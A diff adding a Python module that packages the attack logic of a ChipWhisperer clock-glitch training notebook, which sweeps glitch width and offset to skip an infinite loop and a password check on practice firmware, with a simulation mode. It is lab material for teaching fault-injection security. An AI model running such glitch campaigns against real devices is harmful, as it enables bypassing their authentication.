@@ -0,0 +1,294 @@
+"""Clock glitch Attack 1 and Attack 2 as an importable module.
+
+This is the attack logic of ``day3/am/Fault_1-Introduction_to_Clock_Glitch_Attacks``
+without the notebook: no ``get_ipython()``, no ``%run
+Helper_Scripts/Setup_Generic.ipynb`` and no globals. ``scope``,
+``target`` and the reset function are passed in explicitly. tqdm and
+matplotlib are only imported when progress bars or plots are asked for,
+so a headless campaign starts quickly.
+
+From a notebook::
+
+    from glitch_helpers import clock_glitch
+    clock_glitch.setup_glitch(scope, PLATFORM)
+    attack1_data = clock_glitch.attack1(scope, target, reset_target,
+                                        Range(-20, 0, 1), Range(-49, -35, 1),
+                                        results=gr, progress=True)
+
+From the command line, with a JSON config file::
+
+    python -m glitch_helpers.clock_glitch campaign.json
+
+See :func:`main` for the config keys.
+"""
+import argparse
+import json
+import sys
+import time
+
+from glitch_helpers.classify import for_firmware
+from glitch_helpers.search import Range, range_values
+
+
+def _progress(iterable, enabled, **kwargs):
+    if not enabled:
+        return iterable
+    try:
+        from tqdm.auto import tqdm
+    except ImportError:
+        return iterable
+    return tqdm(iterable, **kwargs)
+
+
+def make_reset(platform):
+    """``reset_target(scope)`` as defined by Setup_Generic for ``platform``."""
+    if platform in ("CW303", "CWLITEXMEGA"):
+        def reset_target(scope):
+            scope.io.pdic = "low"
+            time.sleep(0.1)
+            scope.io.pdic = "high_z"  # XMEGA doesn't like pdic driven high
+            time.sleep(0.1)  # xmega needs more startup time
+    else:
+        def reset_target(scope):
+            scope.io.nrst = "low"
+            time.sleep(0.05)
+            scope.io.nrst = "high_z"
+            time.sleep(0.05)
+    return reset_target
+
+
+def setup_glitch(scope, platform):
+    """Glitch module settings from the "Glitch Module" section.
+
+    Returns:
+        The default offset :class:`Range` for ``platform``.
+    """
+    scope.glitch.clk_src = "clkgen"
+    scope.glitch.output = "clock_xor"
+    scope.glitch.trigger_src = "ext_single"
+    scope.io.hs2 = "glitch"
+    if platform in ("CWLITEXMEGA", "CW303"):
+        scope.glitch.repeat = 105
+        return Range(-10, 10, 1)
+    scope.glitch.ext_offset = 37
+    scope.glitch.repeat = 5
+    return Range(-49, -30, 1)
+
+
+def attack1(scope, target, reset, width_range, offset_range, sample_size=5, repeat=2,
+            results=None, progress=False, log=None):
+    """Attack 1: glitch past the infinite loop in ``glitch1()``.
+
+    Args:
+        reset (callable): ``reset_target(scope)``.
+        width_range (Range): Glitch widths to try.
+        offset_range (Range): Glitch offsets to try.
+        sample_size (int): Attempts per width/offset.
+        repeat (int): ``scope.glitch.repeat``.
+        results: Optional ``GlitchResults`` (or
+            :class:`~glitch_helpers.heatmap.GlitchHeatmap`); every attempt
+            is passed to its ``add()``.
+        progress (bool): Show tqdm progress bars.
+        log (callable): Called with a message on each success.
+
+    Returns:
+        ``attack1_data``: a list of ``[width, offset, successes]`` rows.
+    """
+    clf = for_firmware("glitch1")
+    scope.glitch.repeat = repeat
+    data = []
+    for width in _progress(range_values(width_range).tolist(), progress, desc="width"):
+        scope.glitch.width = width
+        for offset in _progress(range_values(offset_range).tolist(), progress, desc="offset", leave=False):
+            scope.glitch.offset = offset
+            successes = 0
+            for _ in range(sample_size):
+                scope.arm()
+                reset(scope)
+                scope.capture()
+                response = target.read(timeout=10)
+                group = clf(response)
+                if group == "crash":
+                    # No "hello\nA" at all; GlitchResults only has the three groups.
+                    group = "reset"
+                if group == "success":
+                    successes += 1
+                    if log is not None:
+                        log("success: width {} offset {}".format(width, offset))
+                if results is not None:
+                    results.add(group, (scope.glitch.width, scope.glitch.offset))
+            data.append([width, offset, successes])
+    return data
+
+
+def attack2(scope, target, reset, width_range, offset_range, ext_range=range(100), repeat=1,
+            ref_trace=None, plot=None, adc_timeout=0.1, read_timeout=10, progress=False, log=None):
+    """Attack 2: glitch past the password check in ``glitch3()``.
+
+    Args:
+        reset (callable): ``reset_target(scope)``, used after a capture
+            timeout.
+        ext_range: ext_offset values tried at each width/offset.
+        ref_trace: Optional unglitched trace. When given, the summed
+            absolute difference to it is stored with each attempt.
+        plot: Optional plot sink with a ``send(trace)`` method, e.g.
+            ``real_time_plot`` or :class:`~glitch_helpers.plotting.LivePlot`.
+
+    Returns:
+        ``(attack2_data, success_trace)``. Rows of ``attack2_data`` are
+        ``[offset, width, ext_offset, success, repr(response)]`` as in the
+        notebook, with the trace difference appended when ``ref_trace`` is
+        given. ``success_trace`` is the last successful trace, or None.
+    """
+    import numpy as np
+    clf = for_firmware("glitch3")
+    scope.glitch.clk_src = "clkgen"
+    scope.glitch.output = "clock_xor"
+    scope.glitch.trigger_src = "ext_single"
+    scope.glitch.repeat = repeat
+    scope.io.hs2 = "glitch"
+    scope.adc.timeout = adc_timeout
+    ext_range = list(ext_range)
+    data = []
+    success_trace = None
+    for width in _progress(range_values(width_range).tolist(), progress, desc="width"):
+        scope.glitch.width = width
+        for offset in _progress(range_values(offset_range).tolist(), progress, desc="offset", leave=False):
+            scope.glitch.offset = offset
+            for ext_offset in ext_range:
+                scope.glitch.ext_offset = ext_offset
+                target.flush()
+                scope.arm()
+                target.write("x\n")
+                if scope.capture():
+                    reset(scope)
+                response = target.read(timeout=read_timeout)
+                trace = scope.get_last_trace()
+                if plot is not None:
+                    plot.send(trace)
+                success = clf(response) == "success"
+                if success:
+                    success_trace = np.array(trace, copy=True)
+                    if log is not None:
+                        log(response)
+                row = [offset, width, ext_offset, success, repr(response)]
+                if ref_trace is not None:
+                    row.append(float(np.sum(np.abs(np.asarray(ref_trace) - trace))))
+                data.append(row)
+    return data, success_trace
+
+
+ATTACK_FIRMWARE = {"attack1": "glitch1", "attack2": "glitch3"}
+"""Simulated firmware each attack runs against unless ``sim_firmware`` is set."""
+
+
+def connect(config):
+    """Return ``(scope, target, reset)`` for a campaign config.
+
+    ``"simulate": true`` uses :mod:`glitch_helpers.sim` (with the firmware
+    from :data:`ATTACK_FIRMWARE` and its default fault map unless
+    ``"sim_firmware"``/``"sim_fault_rate"`` are given), otherwise the
+    ChipWhisperer with serial number ``"sn"`` (if given) is opened and,
+    if ``"fw_path"`` is set, the target is programmed.
+    """
+    platform = config.get("platform", "CWLITEARM")
+    if config.get("simulate"):
+        from glitch_helpers import sim
+        firmware = config.get("sim_firmware",
+                              ATTACK_FIRMWARE.get(config.get("attack", "attack2"), "glitch3"))
+        if "sim_fault_rate" in config:
+            rate = float(config["sim_fault_rate"])
+            fault_rate = lambda g: rate
+        else:
+            fault_rate = sim.default_fault_map(firmware)
+        scope, target = sim.connect(fault_rate=fault_rate, firmware=firmware,
+                                    seed=config.get("seed", 0))
+        return scope, target, sim.reset_target
+    import chipwhisperer as cw
+    scope = cw.scope(sn=config.get("sn"))
+    target = cw.target(scope)
+    scope.default_setup()
+    if config.get("fw_path"):
+        if platform in ("CW303", "CWLITEXMEGA"):
+            prog = cw.programmers.XMEGAProgrammer
+        else:
+            prog = cw.programmers.STM32FProgrammer
+        cw.program_target(scope, prog, config["fw_path"])
+    return scope, target, make_reset(platform)
+
+
+def run_config(config, log=print):
+    """Run the campaign described by ``config`` and return its results dict."""
+    scope, target, reset = connect(config)
+    platform = config.get("platform", "CWLITEARM")
+    attack = config.get("attack", "attack2")
+    try:
+        default_offsets = setup_glitch(scope, platform)
+        width_range = Range(*config.get("width_range", (-20, 0, 1)))
+        offset_range = Range(*config["offset_range"]) if "offset_range" in config else default_offsets
+        start = time.perf_counter()
+        if attack == "attack1":
+            sample_size = config.get("sample_size", 5)
+            rows = attack1(scope, target, reset, width_range, offset_range,
+                           sample_size=sample_size, repeat=config.get("repeat", 2),
+                           progress=config.get("progress", False), log=log)
+            attempts = len(rows) * sample_size
+            successes = sum(r[2] for r in rows)
+            cells = set((r[0], r[1]) for r in rows)
+            success_cells = set((r[0], r[1]) for r in rows if r[2] > 0)
+        elif attack == "attack2":
+            ext_range = range(*config.get("ext_range", (0, 100)))
+            rows, _ = attack2(scope, target, reset, width_range, offset_range, ext_range,
+                              repeat=config.get("repeat", 1), progress=config.get("progress", False),
+                              log=log)
+            attempts = len(rows)
+            successes = sum(1 for r in rows if r[3])
+            cells = set((r[1], r[0]) for r in rows)
+            success_cells = set((r[1], r[0]) for r in rows if r[3])
+        else:
+            raise ValueError("Unknown attack {!r}, expected attack1 or attack2".format(attack))
+        elapsed = time.perf_counter() - start
+    finally:
+        scope.dis()
+        target.dis()
+    return {"attack": attack, "platform": platform, "rows": rows, "attempts": attempts,
+            "successes": successes, "cells": len(cells), "success_cells": len(success_cells),
+            "elapsed": elapsed}
+
+
+def main(argv=None):
+    """Command line entry point.
+
+    The config file is JSON with these keys (all optional except where
+    noted):
+
+    * ``attack``: ``"attack1"`` or ``"attack2"`` (default).
+    * ``platform``: ``PLATFORM`` as in the notebooks, default ``"CWLITEARM"``.
+    * ``width_range``, ``offset_range``: ``[min, max, step]``.
+    * ``ext_range``: ``[start, stop]`` for Attack 2.
+    * ``sample_size``, ``repeat``: as in the notebook.
+    * ``sn``, ``fw_path``: scope serial number and firmware to program.
+    * ``simulate``: run against :mod:`glitch_helpers.sim` instead.
+    * ``output``: file to write the results to as JSON.
+    """
+    parser = argparse.ArgumentParser(description="Run a clock glitch campaign from a config file.")
+    parser.add_argument("config", help="JSON campaign config")
+    parser.add_argument("-o", "--output", help="write results JSON here (overrides the config)")
+    parser.add_argument("-q", "--quiet", action="store_true", help="don't print successes")
+    args = parser.parse_args(argv)
+    with open(args.config) as f:
+        config = json.load(f)
+    result = run_config(config, log=None if args.quiet else print)
+    output = args.output or config.get("output")
+    if output:
+        with open(output, "w") as f:
+            json.dump(result, f)
+    sys.stdout.write("{} on {}: {} successes in {} attempts; {} of {} width/offset cells "
+                     "had a success; {:.1f} s\n".format(
+                         result["attack"], result["platform"], result["successes"], result["attempts"],
+                         result["success_cells"], result["cells"], result["elapsed"]))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())